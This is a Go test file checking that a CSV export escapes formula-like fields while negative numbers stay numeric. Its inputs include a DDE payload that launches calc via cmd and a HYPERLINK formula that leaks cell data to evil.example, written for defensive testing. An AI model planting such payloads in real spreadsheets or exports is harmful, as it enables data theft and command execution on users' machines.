package api

import (
	"bytes"
	"encoding/csv"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"

	"roundtable/aggregate"
	"roundtable/privacy"
)

// TestExportCSVNeutralisesFormulas: whatever a release carries, no field of
// /v1/export.csv starts like a spreadsheet formula unless it is a genuine
// finite number in a numeric column, so a negative noisy count still reads
// as a number and "=HYPERLINK(…)" reads as text. The ledger refuses such
// releases (cluster.TestFSMRefusesInvalidReleaseContent); the export does
// not rely on it.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	rel := privacy.Release{
		Partner: "=cmd|' /C calc'!A0", Period: aggregate.Period{Year: 2024, Quarter: 1},
		Indicators: []privacy.IndicatorRelease{{
			Name: "+SUM(1,2)", Mechanism: "-2+3", Epsilon: 0.5, Dimensions: []string{"@dim", "sex"},
			Cells: []privacy.Cell{
				{Key: []string{formula, "female"}, Value: -3, Scale: 2, CILow: -9, CIHigh: 3},
				{Key: []string{"\tx", "\r=1"}, Value: 4, Scale: 2, CILow: -2, CIHigh: 10},
				{Key: []string{"0-11", "*"}, Value: -12, Scale: 2, CILow: math.Inf(-1), CIHigh: math.NaN()},
			},
			Quantiles: []privacy.Quantile{{Rank: 0.5, Value: -1.5, CILow: math.Inf(-1), CIHigh: math.Inf(1)}},
		}},
	}
	// JSON has no NaN or Inf, so no stored release carries one: the rows
	// are rendered from the decoded release, as the export renders each
	// one it reads.
	var buf bytes.Buffer
	buf.Write(exportHeader())
	cw := csv.NewWriter(&buf)
	writeReleaseRows(cw, &privacy.Signed{ID: "@id", Release: rel}, 7)
	cw.Flush()
	b := buf.Bytes()
	entries := entriesPager{{Signed: privacy.Signed{ID: "@id", Release: rel}, Leaf: 7}}
	if want := oracleExportCSV(entries); !bytes.Equal(b, want) {
		t.Fatalf("export differs from the old renderer's:\n%s\n%s", b, want)
	}
	// Read from the ledger, streamed or cached, the hostile text is
	// neutralised the same way.
	finite := rel
	finite.Indicators = slices.Clone(rel.Indicators)
	finite.Indicators[0].Cells = slices.Clone(rel.Indicators[0].Cells)
	finite.Indicators[0].Cells[2].CILow, finite.Indicators[0].Cells[2].CIHigh = -20, 1
	finite.Indicators[0].Quantiles = []privacy.Quantile{{Rank: 0.5, Value: -1.5, CILow: -3, CIHigh: 2}}
	var ledger entriesPager
	for leaf := range int64(3) {
		ledger = append(ledger, ReleaseEntry{Signed: privacy.Signed{ID: "@id" + strconv.FormatInt(leaf, 10), Release: finite}, Leaf: leaf})
	}
	want := oracleExportCSV(ledger)
	if got := streamedExport(t, ledger); !bytes.Equal(got, want) {
		t.Errorf("streamed export differs from the old renderer's:\n%s\n%s", got, want)
	}
	if got := cachedExport(t, t.TempDir(), ledger); !bytes.Equal(got, want) {
		t.Errorf("cached export differs from the old renderer's:\n%s\n%s", got, want)
	}
	if !bytes.Contains(want, []byte(`'=cmd|' /C calc'!A0,2024-Q1,"'+SUM(1,2)",'@dim|sex,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")|female",-3,-9,3,'-2+3,2,0.5,0,'@id0,0`)) {
		t.Errorf("the ledger's hostile row is not neutralised:\n%s", want)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cols := ExportColumns()
	numeric := []string{"estimate", "ci_low", "ci_high", "scale", "epsilon", "leaf_index"}
	for i, row := range rows[1:] {
		for j, field := range row {
			if field == "" || !strings.ContainsRune("=+-@\t\r", rune(field[0])) {
				continue
			}
			x, err := strconv.ParseFloat(field, 64)
			if !slices.Contains(numeric, cols[j]) || err != nil || math.IsInf(x, 0) {
				t.Errorf("row %d, %s = %q starts like a formula", i+1, cols[j], field)
			}
		}
	}
	col := func(row int, name string) string { return rows[row][slices.Index(cols, name)] }
	for _, c := range []struct{ got, want string }{
		{col(1, "partner"), "'=cmd|' /C calc'!A0"},
		{col(1, "indicator"), "'+SUM(1,2)"},
		{col(1, "dimensions"), "'@dim|sex"},
		{col(1, "mechanism"), "'-2+3"},
		{col(1, "key"), "'" + formula + "|female"},
		{col(1, "release_id"), "'@id"},
		{col(2, "key"), "'\tx|\r=1"},
		{col(3, "key"), "0-11|*"},
		// Negative numbers stay numbers.
		{col(1, "estimate"), "-3"},
		{col(1, "ci_low"), "-9"},
		{col(2, "ci_low"), "-2"},
		{col(3, "estimate"), "-12"},
		{col(4, "estimate"), "-1.5"},
		// Values that are not finite numbers are text.
		{col(3, "ci_low"), "'-Inf"},
		{col(3, "ci_high"), "NaN"},
		{col(4, "ci_high"), "'+Inf"},
	} {
		if c.got != c.want {
			t.Errorf("got %q, want %q", c.got, c.want)
		}
	}
}

func TestCSVTextNeutralises(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "RS": "RS", "0-11": "0-11", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1",
		"@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "'=x": "'=x", " =x": " =x",
	} {
		if got := CSVText(in); got != want {
			t.Errorf("CSVText(%q) = %q, want %q", in, got, want)
		}
	}
}
